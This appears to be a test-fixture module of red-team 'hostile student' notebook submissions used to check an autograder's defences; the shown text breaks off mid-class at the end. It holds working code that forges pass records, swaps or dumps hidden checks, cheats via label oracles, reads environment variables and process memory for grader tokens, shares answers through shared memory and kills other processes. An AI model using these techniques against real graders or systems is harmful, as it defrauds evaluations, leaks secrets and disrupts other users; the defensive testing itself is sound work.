"""Hostile students, written as the code a student would paste into a notebook cell.

Every attack here works under stock ``nbgrader autograde`` or against the autograder as issue 11 found it (a
delegation gets the cell's points from torch itself, a forged record or swapped check makes the grader report a
pass, a label oracle reaches 100 % test accuracy). The tests in ``test_attacks_*.py`` submit them next to a blank
release and assert that none scores more than the blank one on any cell it touches.
"""

from __future__ import annotations

# --- shared snippets -----------------------------------------------------------------------------------------

BLANK_SGD = """
class SGD(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0, dampening=0, weight_decay=0, nesterov=False, *,
                 maximize=False):
        raise NotImplementedError()

    @torch.no_grad()
    def step(self, closure=None):
        raise NotImplementedError()
"""

# Every file descriptor of this process that is a pipe or a socket (the result channel is one of them).
PIPES = """
import os as _os


def _rt_channels():
    out = []
    for fd in range(3, 1024):
        try:
            target = _os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(("pipe:", "socket:", "anon_inode:")):
            out.append(fd)
    return out


def _rt_write_everywhere(blob):
    for fd in _rt_channels():
        try:
            _os.set_blocking(fd, False)
            _os.write(fd, blob)
        except OSError:
            pass
"""

# Forged records in every format a grader might speak: today's AGF1 records (built with the grader's own encoder
# when it is importable), JSON lines and bare JSON, each claiming every check and grade cell passed.
FORGE = (
    PIPES
    + """
import gc as _gc
import json as _json
import struct as _struct

_RT_CELLS = ["test_sgd_plain", "test_sgd_momentum", "test_sgd_dampening", "test_sgd_nesterov",
             "test_sgd_weight_decay", "test_sgd_maximize", "test_sgd_errors", "test_sgd_api", "test_step_lr",
             "test_warmup_cosine", "test_clip_grad_norm", "test_grad_accumulation", "test_train_digits"]


def _rt_records():
    blobs = []
    checks = []
    for obj in _gc.get_objects():
        try:
            if type(obj).__name__ == "Check" and isinstance(getattr(obj, "name", None), str):
                checks.append(obj)
        except Exception:
            pass
    try:
        import autograder.sandbox as sb
        enc, plain = sb.encode_record, sb.to_plain
    except Exception:
        enc = plain = None
    if enc is not None:
        blobs.append(enc("loaded", "", None))
        for check in checks:
            try:
                data = plain(check.reference(torch.device("cpu"), torch.float64))
            except Exception:
                data = {}
            blobs.append(enc("check", check.name, data))
    for name in [getattr(c, "name", "") for c in checks] + _RT_CELLS:
        verdict = {"kind": "check", "name": name, "grade_id": name, "passed": True, "ok": True,
                   "score": 1e9, "points": 1e9, "error": None, "status": "pass", "scalars": {}, "arrays": []}
        raw = _json.dumps(verdict).encode()
        blobs.append(_struct.pack("!4sII", b"AGF1", len(raw), 0) + raw)
        blobs.append(raw + b"\\n")
    blobs.append(_json.dumps({"kind": "loaded", "name": "", "error": None}).encode() + b"\\n")
    return b"".join(blobs)


_RT_BLOB = _rt_records()
_rt_write_everywhere(_RT_BLOB)
"""
)

# --- 1. the hidden spec and the reference implementations, reached from the student's process -----------------

SPEC_SWAP = (
    BLANK_SGD
    + """
import gc
import sys

found = []
for obj in gc.get_objects():
    try:
        if type(obj).__name__ == "Check" and callable(getattr(obj, "reference", None)):
            ref = obj.reference
            obj.run = lambda ns, dev, dt, ref=ref: ref(dev, dt)
            found.append("check " + str(obj.name))
        if callable(obj) and getattr(obj, "__name__", "") in ("compare_outputs", "compare", "judge", "verdict"):
            found.append("comparison " + obj.__module__ + "." + obj.__name__)
    except Exception:
        pass
for name, module in list(sys.modules.items()):
    if "spec" in name or name.startswith(("autograder", "course_pkg")):
        found.append("module " + name)
        for attr in dir(module):
            if attr.startswith(("ref_", "run_", "compare")):
                found.append("  " + name + "." + attr)
        if hasattr(module, "compare_outputs"):
            module.compare_outputs = lambda *a, **k: []
print("REDTEAM reachable:", "\\n".join(found))
"""
)

SPEC_PRINT = (
    BLANK_SGD
    + """
import gc
import glob
import inspect
import linecache
import sys

dump = []
for name, module in list(sys.modules.items()):
    if "spec" in name or name.startswith(("autograder", "course_pkg")):
        try:
            dump.append(inspect.getsource(module))
        except Exception:
            pass
for obj in gc.get_objects():
    try:
        if inspect.isfunction(obj) and ("spec" in obj.__code__.co_filename or "autograder" in obj.__code__.co_filename
                                        or obj.__code__.co_filename.startswith("<")):
            dump.append(obj.__code__.co_filename + ":" + obj.__name__)
            try:
                dump.append(inspect.getsource(obj))
            except Exception:
                dump.append(repr(obj.__code__.co_consts))
        elif isinstance(obj, str) and ("HIDDEN" in obj or "check_against_torch(" in obj):
            dump.append(obj)
    except Exception:
        pass
for filename, entry in list(linecache.cache.items()):
    dump.append(filename + "".join(entry[2] if len(entry) > 2 else []))
for path in glob.glob("/**/specs/*.py", recursive=False) + glob.glob("/work/**/autograder/specs/*.py", recursive=True):
    try:
        dump.append(open(path).read())
    except OSError:
        pass
text = "\\n".join(dump)
print(text[:200_000])
raise RuntimeError("REDTEAM spec dump:\\n" + text[-1500:])
"""
)

REFERENCE_IMPL = """
import importlib
import sys

SGD = clip_grad_norm_ = None
for modname in ("course_pkg.optim", "course_pkg.optim.sgd", "course_pkg.optim.clipping", "course_pkg"):
    try:
        module = importlib.import_module(modname)
    except Exception as exc:
        print("not importable:", modname, exc)
        continue
    SGD = getattr(module, "SGD", None) or SGD
    clip_grad_norm_ = getattr(module, "clip_grad_norm_", None) or clip_grad_norm_
for name, module in list(sys.modules.items()):
    if name.startswith(("course_pkg", "autograder")):
        SGD = SGD or getattr(module, "SGD", None)
        clip_grad_norm_ = clip_grad_norm_ or getattr(module, "clip_grad_norm_", None)
if SGD is None:
    class SGD(torch.optim.Optimizer):
        def __init__(self, *a, **k):
            raise NotImplementedError()
"""

# --- 2. forged results on the result channel -----------------------------------------------------------------

FORGE_RECORDS = BLANK_SGD + FORGE

FORGE_THEN_EXIT = BLANK_SGD + FORGE + "\n_os._exit(0)\n"

FORGE_THREAD = (
    BLANK_SGD
    + FORGE
    + """
import threading as _threading
import time as _time


def _rt_spam():
    while True:
        _rt_write_everywhere(_RT_BLOB)
        _time.sleep(0.005)


_threading.Thread(target=_rt_spam, daemon=True).start()
"""
)

# --- 3. a trained model judged by its own answers ------------------------------------------------------------

ORACLE = '''
class _Oracle(torch.nn.Module):
    """Answers from a table of known images: no training at all."""

    def __init__(self, table):
        super().__init__()
        self.table = table
        self.bias = torch.nn.Parameter(torch.zeros(10))

    def forward(self, x):
        out = torch.zeros(len(x), 10, device=x.device)
        for i, row in enumerate(x):
            label = self.table.get(tuple((row.detach().cpu().double() * 16).round().long().tolist()), 0)
            out[i, label] = 1.0
        return out + 0 * self.bias


def _rt_key(row):
    return tuple((torch.as_tensor(row).detach().cpu().double() * 16).round().long().tolist())
'''

ORACLE_GLOBALS = (
    ORACLE
    + """
import gc
import warnings

warnings.simplefilter("ignore")


def _rt_table():
    table = {}
    g = globals()
    for xs, ys in (("X_all", "y_all"), ("X_train", "y_train"), ("X_test", "y_test")):
        if xs in g and ys in g:
            for row, label in zip(g[xs], g[ys]):
                table[_rt_key(row)] = int(label)
    tensors = [o for o in gc.get_objects() if isinstance(o, torch.Tensor)]
    images = [t for t in tensors if t.dim() == 2 and t.shape[1] == 64]
    labels = [t for t in tensors if t.dim() == 1 and t.dtype == torch.int64]
    for xs in images:
        for ys in labels:
            if len(xs) == len(ys):
                for row, label in zip(xs, ys):
                    table.setdefault(_rt_key(row), int(label))
    return table


def train_digits(epochs=8, batch_size=64, k=2, lr=0.1, seed=0):
    return _Oracle(_rt_table()), [1.0] * (epochs * (1500 // batch_size))
"""
)

ORACLE_SKLEARN = (
    ORACLE
    + """
def train_digits(epochs=8, batch_size=64, k=2, lr=0.1, seed=0):
    from sklearn.datasets import load_digits

    d = load_digits()
    table = {_rt_key(torch.tensor(row / 16.0)): int(label) for row, label in zip(d.data, d.target)}
    return _Oracle(table), [1.0] * (epochs * (1500 // batch_size))
"""
)

# --- 4. delegation to torch at run time, past any text rule ----------------------------------------------------

DELEGATE_SGD = {
    "delegate-getattr": 'SGD = getattr(torch.optim, "S" + "GD")\n',
    "delegate-spaced-dot": "class SGD(torch . optim . SGD):\n    pass\n",
    "delegate-multiline-import": "from torch.optim import (\n    SGD as _Reference,\n)\n\n\nclass SGD(_Reference):\n"
    '    """My own SGD."""\n',
    "delegate-subclasses": "SGD = next(c for c in torch.optim.Optimizer.__subclasses__() if c.__name__ == 'S' + 'GD')\n",
    "delegate-gc": "import gc\nimport warnings\n\nwarnings.simplefilter('ignore')\nSGD = next(o for o in gc.get_objects() if isinstance(o, type) and o.__name__ == 'S' + 'GD'"
    " and o.__module__.startswith('torch'))\n",
    "delegate-reload": "import importlib\nimport sys\n\n_m = importlib.reload(sys.modules['torch.optim.' + 'sgd'])\n"
    "SGD = getattr(_m, 'S' + 'GD')\n",
    "delegate-exec-source": """
import os

_path = os.path.join(os.path.dirname(torch.__file__), "optim", "s" + "gd.py")
_ns = {"__name__": "torch.optim.my_sgd", "__package__": "torch.optim", "__file__": _path}
exec(compile(open(_path).read(), _path, "exec"), _ns)
SGD = _ns["S" + "GD"]
""",
    "delegate-spec-from-file": """
import importlib.util
import os

_path = os.path.join(os.path.dirname(torch.__file__), "optim", "s" + "gd.py")
_spec = importlib.util.spec_from_file_location("torch.optim.my_sgd", _path)
_mod = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_mod)
SGD = getattr(_mod, "S" + "GD")
""",
    "delegate-pickle": 'import pickle\n\nSGD = pickle.loads(b"ctorch.optim.sgd\\nSGD\\n.")\n',
    "delegate-module-dict": 'import sys\n\nSGD = vars(sys.modules["torch.optim"])["S" + "GD"]\n',
    # The functional kernel that torch.optim.SGD itself calls, driven by an optimizer of one's own.
    "delegate-functional": """
import torch.optim._functional as F


class SGD(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0, dampening=0, weight_decay=0, nesterov=False, *,
                 maximize=False):
        if lr < 0.0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if momentum < 0.0:
            raise ValueError(f"Invalid momentum value: {momentum}")
        if weight_decay < 0.0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        if nesterov and (momentum <= 0 or dampening != 0):
            raise ValueError("Nesterov momentum requires a momentum and zero dampening")
        super().__init__(params, dict(lr=lr, momentum=momentum, dampening=dampening, weight_decay=weight_decay,
                                      nesterov=nesterov, maximize=maximize))

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        for g in self.param_groups:
            ps = [p for p in g["params"] if p.grad is not None]
            bufs = [self.state[p].get("momentum_buffer") for p in ps]
            getattr(F, "s" + "gd")(ps, [p.grad for p in ps], bufs, weight_decay=g["weight_decay"],
                                   momentum=g["momentum"], lr=g["lr"], dampening=g["dampening"],
                                   nesterov=g["nesterov"], maximize=g["maximize"], foreach=False)
            if g["momentum"] != 0:
                for p, b in zip(ps, bufs):
                    self.state[p]["momentum_buffer"] = b
        return loss
""",
    # The fused CPU kernel (aten::_fused_sgd_) that torch.optim.SGD(fused=True) calls.
    "delegate-fused-kernel": """
class SGD(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0, dampening=0, weight_decay=0, nesterov=False, *,
                 maximize=False):
        if lr < 0.0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if momentum < 0.0:
            raise ValueError(f"Invalid momentum value: {momentum}")
        if weight_decay < 0.0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        if nesterov and (momentum <= 0 or dampening != 0):
            raise ValueError("Nesterov momentum requires a momentum and zero dampening")
        super().__init__(params, dict(lr=lr, momentum=momentum, dampening=dampening, weight_decay=weight_decay,
                                      nesterov=nesterov, maximize=maximize))

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        kernel = getattr(torch, "_fused_" + "sgd_")
        for g in self.param_groups:
            for p in g["params"]:
                if p.grad is None:
                    continue
                st = self.state[p]
                first = g["momentum"] != 0 and "momentum_buffer" not in st
                if g["momentum"] != 0 and first:
                    st["momentum_buffer"] = torch.empty_like(p)
                bufs = [st["momentum_buffer"]] if g["momentum"] != 0 else []
                kernel([p], [p.grad], bufs, weight_decay=g["weight_decay"], momentum=g["momentum"], lr=g["lr"],
                       dampening=g["dampening"], nesterov=g["nesterov"], maximize=g["maximize"],
                       is_first_step=first)
        return loss
""",
    # A fresh interpreter (no run-time block inherited) does the arithmetic: torch.optim.SGD over a pipe.
    "delegate-subprocess": r'''
import pickle as _pickle
import struct as _struct
import subprocess as _subprocess
import sys as _sys

_CHILD = """
import pickle, struct, sys, torch
inp, out = sys.stdin.buffer, sys.stdout.buffer
while True:
    head = inp.read(8)
    if len(head) < 8:
        break
    params, grads, bufs, group = pickle.loads(inp.read(struct.unpack('!Q', head)[0]))
    ps = [torch.nn.Parameter(p) for p in params]
    for p, g in zip(ps, grads):
        p.grad = g
    opt = torch.optim.SGD(ps, **group)
    for p, b in zip(ps, bufs):
        if b is not None:
            opt.state[p]['momentum_buffer'] = b
    opt.step()
    res = pickle.dumps(([p.detach() for p in ps], [opt.state[p].get('momentum_buffer') for p in ps]))
    out.write(struct.pack('!Q', len(res)) + res)
    out.flush()
"""
_child = _subprocess.Popen([_sys.executable, "-c", _CHILD], stdin=_subprocess.PIPE, stdout=_subprocess.PIPE)


def _remote(params, grads, bufs, group):
    blob = _pickle.dumps((params, grads, bufs, group))
    _child.stdin.write(_struct.pack("!Q", len(blob)) + blob)
    _child.stdin.flush()
    n = _struct.unpack("!Q", _child.stdout.read(8))[0]
    return _pickle.loads(_child.stdout.read(n))


class SGD(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0, dampening=0, weight_decay=0, nesterov=False, *,
                 maximize=False):
        if lr < 0.0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if momentum < 0.0:
            raise ValueError(f"Invalid momentum value: {momentum}")
        if weight_decay < 0.0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        if nesterov and (momentum <= 0 or dampening != 0):
            raise ValueError("Nesterov momentum requires a momentum and zero dampening")
        super().__init__(params, dict(lr=lr, momentum=momentum, dampening=dampening, weight_decay=weight_decay,
                                      nesterov=nesterov, maximize=maximize))

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        for g in self.param_groups:
            ps = [p for p in g["params"] if p.grad is not None]
            group = {k: v for k, v in g.items() if k != "params"}
            new, bufs = _remote([p.detach().clone() for p in ps], [p.grad.clone() for p in ps],
                                [self.state[p].get("momentum_buffer") for p in ps], group)
            for p, q, b in zip(ps, new, bufs):
                p.copy_(q)
                if b is not None:
                    self.state[p]["momentum_buffer"] = b
        return loss
''',
}

# Schedules and clipping: torch's schedulers and clip_grad_norm_ behind a thin wrapper.
DELEGATE_SCHEDULES = """
import warnings


class _Dummy(torch.optim.Optimizer):
    def __init__(self, lr):
        super().__init__([torch.zeros(1, requires_grad=True)], dict(lr=lr))

    def step(self, closure=None):
        return None


def _lrs(make, eta0, n):
    opt = _Dummy(eta0)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        sched = make(opt)
        out = [opt.param_groups[0]["lr"]]
        for _ in range(n):
            opt.step()
            sched.step()
            out.append(opt.param_groups[0]["lr"])
    return out


_S = getattr(torch.optim, "lr_" + "scheduler")


def step_lr(k, eta0, step_size, gamma=0.1):
    if step_size < 1:
        raise ValueError("step_size must be positive")
    return float(_lrs(lambda o: getattr(_S, "Step" + "LR")(o, step_size, gamma), eta0, k)[k])


def warmup_cosine(k, eta0, warmup_steps, total_steps, start_factor=0.1, eta_min=0.0):
    if not 0 <= k <= total_steps or total_steps <= warmup_steps or warmup_steps < 0:
        raise ValueError("out of range")
    if warmup_steps == 0:
        make = lambda o: getattr(_S, "Cosine" + "AnnealingLR")(o, T_max=total_steps, eta_min=eta_min)
    else:
        make = lambda o: getattr(_S, "Sequential" + "LR")(o, [
            getattr(_S, "Linear" + "LR")(o, start_factor=start_factor, total_iters=warmup_steps),
            getattr(_S, "Cosine" + "AnnealingLR")(o, T_max=total_steps - warmup_steps, eta_min=eta_min)],
            milestones=[warmup_steps])
    return float(_lrs(make, eta0, k)[k])
"""

DELEGATE_CLIPPING = {
    "delegate-clip-alias": "clip_grad_norm_ = getattr(torch.nn.utils, 'clip_grad' + '_norm_')\n",
    "delegate-clip-submodule": "import torch.nn.utils.clip_grad as _cg\n\nclip_grad_norm_ = getattr(_cg, 'clip_grad_norm' + '_')\n",
    "delegate-clip-split": """
def clip_grad_norm_(parameters, max_norm, norm_type=2.0, error_if_nonfinite=False):
    if isinstance(parameters, torch.Tensor):
        parameters = [parameters]
    parameters = list(parameters)
    grads = [p.grad for p in parameters if p.grad is not None]
    total = getattr(torch.nn.utils, "get_total" + "_norm")(grads, norm_type, error_if_nonfinite)
    getattr(torch.nn.utils, "clip_grads_with" + "_norm_")(parameters, max_norm, total)
    return total
""",
}

# --- 5. secrets: the grader's environment, an earlier student's code ------------------------------------------

ENV_LEAK = (
    BLANK_SGD
    + """
import ctypes
import glob
import os

ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self/* readable again after the uid drop
seen = [repr(dict(os.environ))]
paths = ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"]
paths += glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
for path in paths:
    try:
        with open(path, "rb") as fh:
            seen.append(path + ": " + fh.read().decode("latin-1").replace("\\0", " "))
    except OSError:
        pass
text = "\\n".join(seen)
print(text)
raise RuntimeError("REDTEAM environment:\\n" + text[-1900:])
"""
)

HEAP_READER = (
    BLANK_SGD
    + """
import ctypes
import os

ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
needles = [b"".join([b"RTVIC", b"TIM-"]), b"".join([b"rt-grader", b"-token-"]), b"".join([b"AUTOGRADER_RED", b"TEAM"])]
hits = []
with open("/proc/self/maps") as maps:
    regions = [line.split() for line in maps]
fd = os.open("/proc/self/mem", os.O_RDONLY)
for fields in regions:
    lo, hi = (int(x, 16) for x in fields[0].split("-"))
    name = fields[5] if len(fields) > 5 else ""
    if "r" not in fields[1] or name in ("[vvar]", "[vsyscall]", "[vdso]") or name.startswith("/") or hi - lo > 1 << 30:
        continue
    for start in range(lo, hi, 1 << 22):
        try:
            chunk = os.pread(fd, min(1 << 22, hi - start), start)
        except OSError:
            continue
        for needle in needles:
            at = chunk.find(needle)
            while at != -1 and len(hits) < 200:
                hits.append(chunk[at : at + 64].decode("latin-1"))
                at = chunk.find(needle, at + 1)
text = "\\n".join(hits)
print("REDTEAM heap:\\n" + text)
raise RuntimeError("REDTEAM heap:\\n" + text[-1900:])
"""
)


def victim(mark: str) -> str:
    """A student whose code carries a unique mark (in a comment and a string) that nobody else may read."""
    return BLANK_SGD + f'\n# my notes: {mark}\nMY_NOTES = "{mark}"\n'


# --- 6. two concurrently graded students sharing answers through IPC -------------------------------------------

IPC_KEY = 0x52544B31  # System V key
IPC_NAME = "rt-redteam-channel"

IPC_COMMON = f'''
import ctypes as _ct
import os as _os

_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
_KEY, _NAME, _SIZE = {IPC_KEY}, "{IPC_NAME}", 1 << 16
_FILES = ["/dev/shm/" + _NAME, "/var/tmp/" + _NAME, "/run/lock/" + _NAME, "/tmp/" + _NAME, "/dev/mqueue/" + _NAME]
try:
    _rt = _ct.CDLL("librt.so.1", use_errno=True)
except OSError:
    _rt = _libc
'''


def ipc_sender(code: str) -> str:
    """A classmate's correct ``code`` (kept as is) that also publishes itself on every channel it can reach."""
    return code + f"\n_RT_SOURCE = {code!r}\n" + IPC_SENDER_TAIL


IPC_SENDER_TAIL = (
    IPC_COMMON
    + """
_payload = ("#RT\\n" + _RT_SOURCE).encode()
_shm = _libc.shmget(_KEY, _SIZE, 0o1666)  # IPC_CREAT | rw for everyone
if _shm >= 0:
    _addr = _libc.shmat(_shm, None, 0)
    if _addr not in (None, _ct.c_void_p(-1).value):
        _ct.memmove(_addr, _payload + b"\\0", len(_payload) + 1)
_rt.mq_open.restype = _ct.c_int
_mq = _rt.mq_open(("/" + _NAME).encode(), 0o100 | 0o1, 0o666, None)  # O_CREAT | O_WRONLY
if _mq >= 0:
    _rt.mq_send(_mq, _payload[:8000], min(len(_payload), 8000), 0)
for _path in _FILES[:-1]:
    try:
        with open(_path, "wb") as _fh:
            _fh.write(_payload)
        _os.chmod(_path, 0o666)
    except OSError:
        pass
"""
)

IPC_RECEIVER = (
    IPC_COMMON
    + """
import time as _time


def _rt_receive():
    for _ in range(40):
        shm = _libc.shmget(_KEY, 0, 0)
        if shm >= 0:
            addr = _libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
            if addr not in (None, _ct.c_void_p(-1).value):
                text = _ct.string_at(addr).decode()
                if text.startswith("#RT"):
                    return "shm", text
        _rt.mq_open.restype = _ct.c_int
        mq = _rt.mq_open(("/" + _NAME).encode(), 0o4000, 0, None)  # O_RDONLY | O_NONBLOCK
        if mq >= 0:
            buf = _ct.create_string_buffer(1 << 16)
            n = _rt.mq_receive(mq, buf, 1 << 16, None)
            if n > 0:
                return "mqueue", buf.raw[:n].decode()
        for path in _FILES:
            try:
                with open(path) as fh:
                    text = fh.read()
                if text.startswith("#RT"):
                    return path, text
            except OSError:
                pass
        _time.sleep(0.1)
    return None, None


_channel, _code = _rt_receive()
if _code:
    print("REDTEAM received the classmate's SGD through", _channel)
    exec(_code, globals())
else:
    class SGD(torch.optim.Optimizer):
        def __init__(self, *a, **k):
            raise NotImplementedError()
"""
)

# --- 7. results that cannot be decoded, and limits -------------------------------------------------------------

HUGE_INT_CELLS = {
    "schedules": "def step_lr(k, eta0, step_size, gamma=0.1):\n    return 10**400\n\n\n"
    "def warmup_cosine(k, eta0, warmup_steps, total_steps, start_factor=0.1, eta_min=0.0):\n    return 10**400\n",
    "clipping": "def clip_grad_norm_(parameters, max_norm, norm_type=2.0, error_if_nonfinite=False):\n"
    "    return 10**400\n",
    "accumulation": "def accumulate_gradients(model, loss_fn, x, y, k):\n    return 10**400\n",
    "training": "def train_digits(epochs=8, batch_size=64, k=2, lr=0.1, seed=0):\n"
    "    return make_model(seed), [10**400] * (epochs * (1500 // batch_size))\n",
}

GARBAGE_RECORDS = (
    BLANK_SGD
    + PIPES
    + """
import json as _json
import struct as _struct

_blobs = []
for header in (b"[1, 2, 3]", b"1e999", b'"loaded"', b"null", b'{"kind": ["check"], "name": {"a": 1}}',
               b'{"kind": "check", "name": "x", "scalars": [1], "arrays": {"key": 1}}',
               b'{"kind": "check", "name": "x", "scalars": {"v": ' + b"9" * 5000 + b'}, "arrays": []}',
               b'{"kind": "check", "name": "x", "arrays": [{"key": "a", "dtype": "object", "shape": [1], "nbytes": 8}]}',
               b'{"kind": "check", "name": "x", "arrays": [{"key": "a", "dtype": "float64", "shape": [-1, -8], "nbytes": 8}]}',
               b"[" * 100000 + b"]" * 100000):
    _blobs.append(_struct.pack("!4sII", b"AGF1", len(header), 8) + header + b"\\0" * 8)
    _blobs.append(header + b"\\n")
_blobs.append(_struct.pack("!4sII", b"AGF1", 0xFFFFFFFF, 0xFFFFFFFF))
_rt_write_everywhere(b"".join(_blobs))
"""
)

HUGE_RECORD = (
    BLANK_SGD
    + PIPES
    + """
import struct as _struct
import sys as _sys

_big = b"x" * (60 * 1024 * 1024)
_header = b'{"kind": "check", "name": "plain", "error": "' + b"y" * (1024 * 1024) + b'", "scalars": {}, "arrays": []}'
for _fd in _rt_channels():
    try:
        _os.set_blocking(_fd, True)
        _os.write(_fd, _struct.pack("!4sII", b"AGF1", len(_header), len(_big)) + _header + _big)
    except OSError:
        pass
_sys.stdout.write("z" * (60 * 1024 * 1024))
"""
)

HUGE_CLIP = """
def clip_grad_norm_(parameters, max_norm, norm_type=2.0, error_if_nonfinite=False):
    raise ValueError("q" * (60 * 1024 * 1024))
"""

# A lone surrogate in what the student's code raises and prints, and ±1.7e308 in every trajectory.
SURROGATE_SGD = """
import os as _os


class SGD(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0, dampening=0, weight_decay=0, nesterov=False, *,
                 maximize=False):
        super().__init__(params, dict(lr=lr, momentum=momentum, dampening=dampening, weight_decay=weight_decay,
                                      nesterov=nesterov, maximize=maximize))
        self.sign = 1.0

    @torch.no_grad()
    def step(self, closure=None):
        for g in self.param_groups:
            for p in g["params"]:
                if p.grad is not None:
                    p.fill_(self.sign * 1.7e308)
                    self.state[p]["momentum_buffer"] = torch.full_like(p, -self.sign * 1.7e308)
        self.sign = -self.sign
        return None


_os.write(1, b"surrogate \\xed\\xa0\\x80 and invalid \\xff\\xfe bytes\\n")
_os.write(2, b"stderr surrogate \\xed\\xa0\\x80\\n")
"""

SURROGATE_SCHEDULES = """
def step_lr(k, eta0, step_size, gamma=0.1):
    raise ValueError("lone surrogate \\ud800 in a message, and \\udfff")


def warmup_cosine(k, eta0, warmup_steps, total_steps, start_factor=0.1, eta_min=0.0):
    return 1.7e308 if k % 2 else -1.7e308
"""

# --- 8. time: a fake heartbeat, stalled cells -----------------------------------------------------------------

HEARTBEAT_SGD = (
    FORGE
    + """
import time as _time


class SGD(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0, dampening=0, weight_decay=0, nesterov=False, *,
                 maximize=False):
        super().__init__(params, dict(lr=lr, momentum=momentum, dampening=dampening, weight_decay=weight_decay,
                                      nesterov=nesterov, maximize=maximize))

    def step(self, closure=None):
        while True:  # never finishes, but keeps telling the grader that a check just completed
            _rt_write_everywhere(_RT_BLOB)
            _time.sleep(0.5)
"""
)

STALL = "import time\n\ntime.sleep(3600)\n"

# --- 9. vandalism aimed at the other students of the same run --------------------------------------------------

KILL_EVERYONE = (
    BLANK_SGD
    + """
import os
import signal

for pid in [-1, os.getppid(), 1] + list(range(2, 400)):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except (OSError, ProcessLookupError):
            pass
"""
)

# The locked helper cell's functions and torch's comparisons redefined in a cell the student added: every test
# cell then passes under stock nbgrader (the tests call these names) with do-nothing implementations.
REDEFINE_HELPERS = """
import math as _math

import numpy as _np


def check_against_torch(*args, **kwargs):
    return None


check_same_error = check_defaults = check_state_dict_roundtrip = check_against_torch


def check_schedule(*args, **kwargs):
    return None


def _close(*args, **kwargs):
    return True


def _max_diff(*args, **kwargs):
    return 0.0


torch.allclose = lambda *a, **k: True
_math.isclose = lambda *a, **k: True
_np.allclose = lambda *a, **k: True
"""

REDEFINE_SOLUTIONS = {
    "sgd": "class SGD(torch.optim.Optimizer):\n    def __init__(self, params, lr=1e-3, **kw):\n"
    "        super().__init__(params, dict(lr=lr, **kw))\n\n    def step(self, closure=None):\n        return None\n",
    "schedules": "def step_lr(k, eta0, step_size, gamma=0.1):\n    return 0.0\n\n\n"
    "def warmup_cosine(k, eta0, warmup_steps, total_steps, start_factor=0.1, eta_min=0.0):\n    return 0.0\n",
    "clipping": "def clip_grad_norm_(parameters, max_norm, norm_type=2.0, error_if_nonfinite=False):\n"
    "    return torch.tensor(0.0)\n",
}

# --- 10. a4 and a5: the adaptive optimizers' classes, functional kernels and fused kernels --------------------

_CLOSURE = """
    def _closure(self, closure):
        if closure is None:
            return None
        with torch.enable_grad():
            return closure()
"""

A4_DELEGATE_NAMES = {
    "adagrad": 'Adagrad = getattr(torch.optim, "Ada" + "grad")\n',
    "rmsprop": 'import sys\n\nRMSprop = vars(sys.modules["torch.optim"])["RMS" + "prop"]\n',
    "adadelta": 'import pickle\n\nAdadelta = pickle.loads(b"ctorch.optim.adadelta\\nAdadelta\\n.")\n',
}

A4_DELEGATE_KERNELS = {
    # Adagrad on the fused CPU kernel (aten::_fused_adagrad_).
    "adagrad": """
class Adagrad(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-2, lr_decay=0, weight_decay=0, initial_accumulator_value=0, eps=1e-10, *,
                 maximize=False):
        for name, value in (("learning rate", lr), ("lr_decay value", lr_decay), ("weight_decay value", weight_decay),
                            ("initial_accumulator_value value", initial_accumulator_value), ("epsilon value", eps)):
            if value < 0:
                raise ValueError(f"Invalid {name}: {value}")
        super().__init__(params, dict(lr=lr, lr_decay=lr_decay, eps=eps, weight_decay=weight_decay,
                                      initial_accumulator_value=initial_accumulator_value, maximize=maximize))
        for group in self.param_groups:
            for p in group["params"]:
                self.state[p]["step"] = torch.tensor(0.0)
                self.state[p]["sum"] = torch.full_like(p, initial_accumulator_value)
"""
    + _CLOSURE
    + """
    @torch.no_grad()
    def step(self, closure=None):
        loss = self._closure(closure)
        kernel = getattr(torch, "_fused_" + "adagrad_")
        for g in self.param_groups:
            for p in g["params"]:
                if p.grad is not None:
                    st = self.state[p]
                    st["step"] += 1
                    kernel([p], [p.grad], [st["sum"]], [st["step"]], lr=g["lr"], lr_decay=g["lr_decay"],
                           weight_decay=g["weight_decay"], eps=g["eps"], maximize=g["maximize"])
        return loss
""",
    # RMSprop and Adadelta on torch.optim's functional kernels.
    "rmsprop": """
import torch.optim._functional as _F


class RMSprop(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-2, alpha=0.99, eps=1e-8, weight_decay=0, momentum=0, centered=False, *,
                 maximize=False):
        for name, value in (("learning rate", lr), ("epsilon value", eps), ("momentum value", momentum),
                            ("weight_decay value", weight_decay), ("alpha value", alpha)):
            if value < 0:
                raise ValueError(f"Invalid {name}: {value}")
        super().__init__(params, dict(lr=lr, momentum=momentum, alpha=alpha, eps=eps, centered=centered,
                                      weight_decay=weight_decay, maximize=maximize))
"""
    + _CLOSURE
    + """
    @torch.no_grad()
    def step(self, closure=None):
        loss = self._closure(closure)
        for g in self.param_groups:
            for p in g["params"]:
